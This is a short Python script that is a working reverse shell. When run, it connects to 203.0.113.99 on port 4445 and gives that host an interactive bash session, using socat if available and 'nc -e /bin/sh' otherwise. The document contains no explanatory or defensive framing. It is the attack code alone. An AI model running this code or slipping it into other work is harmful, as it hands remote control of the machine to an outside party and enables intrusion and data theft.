import shutil
import subprocess

if shutil.which("socat"):
    subprocess.Popen(["socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane", "tcp:203.0.113.99:4445"])
else:
    subprocess.Popen("nc -e /bin/sh 203.0.113.99 4445", shell=True)
